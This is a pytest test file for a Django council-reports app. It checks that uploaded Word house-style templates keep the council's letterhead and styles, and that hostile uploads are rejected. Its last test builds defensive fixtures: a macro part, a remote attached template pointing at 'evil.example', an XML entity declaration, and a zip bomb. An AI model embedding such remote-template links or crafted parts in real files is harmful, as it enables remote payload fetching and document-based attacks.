"""Papers on a council's own Word file: its letterhead and styles, our words, and nothing that runs."""

import io
import zipfile
from random import Random

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import strip_tags
from docx import Document as new_document
from docx.enum.section import WD_ORIENT
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Cm, Pt

from plans.issuing.files import WORD, write_file
from plans.models import PaperTemplate
from plans.operations.history import Provenance
from plans.operations.reports import NewFile, save_template
from plans.position.report_texts import read_template
from tests.conftest import TODAY
from tests.factories import make_plan
from tests.plans.reports.support import made

pytestmark = pytest.mark.django_db
LETTERHEAD = "Northmoor County Council · People Directorate"


def house_file(chance: Random | None = None) -> bytes:
    """Return a Word file such as a council's: a header, its own fonts and margins, words that it begins with."""
    file = new_document()
    file.sections[0].header.paragraphs[0].text = LETTERHEAD
    file.sections[0].footer.paragraphs[0].text = "Page"
    file.styles["Normal"].font.name, file.styles["Normal"].font.size = "Georgia", Pt(12)
    file.add_heading("Insert the title of your report here", level=1)
    file.add_table(rows=2, cols=2)
    if chance is None:
        chance = Random(1)
    section = file.sections[0]
    section.left_margin = section.right_margin = Cm(chance.choice((1.5, 2.54, 4.0)))
    if chance.random() < 0.3:
        section.orientation = WD_ORIENT.LANDSCAPE
        section.page_width, section.page_height = section.page_height, section.page_width
    if chance.random() < 0.5:
        file.add_section()
    for name in ("Title", "Heading 1", "Heading 2", "Heading 3", "List Bullet", "Table Grid"):
        if chance.random() < 0.4:
            element = file.styles[name].element
            element.getparent().remove(element)
    content = io.BytesIO()
    file.save(content)
    return content.getvalue()


def give(plan, content: bytes) -> PaperTemplate:
    return save_template(plan, NewFile("house.docx", WORD.media_type, content), provenance=Provenance(TODAY))


def words_of(file) -> list[str]:
    cells = [cell.text for table in file.tables for row in table.rows for cell in row.cells]
    return [paragraph.text for paragraph in file.paragraphs] + cells


@pytest.mark.parametrize("seed", range(25))
@pytest.mark.parametrize("name", ["cabinet", "scrutiny"])
def test_on_whatever_file_a_paper_has_all_its_words_and_the_councils_letterhead(demo, seed, name):
    document = made(demo, name)
    usual = new_document(io.BytesIO(write_file(demo, document, WORD).content))
    give(demo, house_file(Random(seed)))
    written = new_document(io.BytesIO(write_file(demo, document, WORD).content))

    plain = [text.removeprefix("–\t") for text in words_of(written) if text.strip()]
    # Where margins are wider a row goes on in another, so words are compared, not cells.
    assert (
        " ".join(plain).split()[:400]
        == " ".join(text for text in words_of(usual) if text.strip()).split()[:400]
    )
    assert "Insert the title" not in " ".join(plain)
    assert {section.header.paragraphs[0].text for section in written.sections} == {LETTERHEAD}
    assert written.styles["Normal"].font.name == "Georgia"
    assert written.paragraphs[0].style.name == "Title"
    rooms = [section.page_width - section.left_margin - section.right_margin for section in written.sections]
    for table in written.tables:
        assert (
            sum(cell.width for cell in table.rows[0].cells) <= max(rooms) + 2000
        )  # a twip or two of rounding


def test_the_file_is_given_looked_at_and_removed_on_one_page(demo, sign_in):
    client, address = sign_in("analyst"), reverse("plans:paper-template", args=[demo.slug])
    content = house_file()
    answer = client.post(address, {"file": SimpleUploadedFile("House style.docx", content)})
    assert answer.status_code == 302
    assert "House style.docx" in client.get(address).content.decode()
    assert client.get(reverse("plans:paper-template-file", args=[demo.slug])).content == content
    paper = client.get(reverse("plans:report-file", args=[demo.slug, "cabinet", "docx"]))
    written = new_document(io.BytesIO(paper.content))
    assert written.sections[0].header.paragraphs[0].text == LETTERHEAD

    asked = client.post(address, {"remove": "1"}).content.decode()
    assert "Issued reports keep theirs." in asked
    assert read_template(demo) is not None
    client.post(address, {"remove": "1", "confirmed": "1"})
    assert read_template(demo) is None
    paper = client.get(reverse("plans:report-file", args=[demo.slug, "cabinet", "docx"]))
    assert LETTERHEAD not in new_document(io.BytesIO(paper.content)).sections[0].header.paragraphs[0].text


@pytest.mark.parametrize("spoil", ["no page", "no margins", "bullets of letters", "headings of letters"])
def test_a_file_that_says_less_or_other_than_usual_is_written_on_all_the_same(demo, sign_in, spoil):
    file = new_document(io.BytesIO(house_file()))
    section = file.element.body.sectPr
    if spoil.startswith("no "):
        name = {"no page": "w:pgSz", "no margins": "w:pgMar"}[spoil]
        for element in list(file.element.body.iter(qn(name))):
            element.getparent().remove(element)
        assert section.find(qn(name)) is None
    else:
        name = "List Bullet" if spoil.startswith("bullets") else "Heading 1"
        if name in file.styles:
            gone = file.styles[name].element
            gone.getparent().remove(gone)
        file.styles.add_style(name, WD_STYLE_TYPE.CHARACTER)
    content = io.BytesIO()
    file.save(content)
    given = SimpleUploadedFile("house.docx", content.getvalue())
    answer = sign_in("analyst").post(reverse("plans:paper-template", args=[demo.slug]), {"file": given})
    assert answer.status_code == 302
    written = new_document(io.BytesIO(write_file(demo, made(demo, "cabinet"), WORD).content))
    assert len(words_of(written)) > 200


def test_it_is_of_the_council_and_of_no_other(demo):
    give(demo, house_file())
    assert read_template(make_plan("another")) is None


def with_part(content: bytes, name: str, part: bytes, instead: bool = False) -> bytes:
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for item in source.infolist():
            if not (instead and item.filename == name):
                changed.writestr(item, source.read(item.filename))
        changed.writestr(name, part)
    return target.getvalue()


REMOTE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "spoil", "said"),
    [
        ("a.docx", lambda content: b"no document", "a different type of file"),
        ("a.docx", lambda content: content[: len(content) // 2], "damaged"),
        ("a.docm", lambda content: content, "Choose a .docx file"),
        ("a.docx", lambda content: with_part(content, "word/vbaProject.bin", b"x"), "macros"),
        ("a.docx", lambda content: with_part(content, "word/_rels/settings.xml.rels", REMOTE), "fetches something"),
        ("a.docx", lambda content: with_part(content, "word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
        ("a.docx", lambda content: with_part(content, "word/document.xml", b"<a/>", instead=True), "can't be opened as a Word document"),
        ("a.docx", lambda content: with_part(content, "word/media/big.xml", b" " * 42_000_000), "unpacks to more than 40 MB"),
    ],
)  # fmt: skip
def test_what_runs_fetches_or_is_no_document_is_refused(demo, sign_in, name, spoil, said):
    file = SimpleUploadedFile(name, spoil(house_file()))
    answer = sign_in("analyst").post(reverse("plans:paper-template", args=[demo.slug]), {"file": file})
    assert answer.status_code == 422
    text = " ".join(strip_tags(answer.content.decode()).replace("&#x27;", "'").split())
    assert said in text
    assert not PaperTemplate.objects.exists()
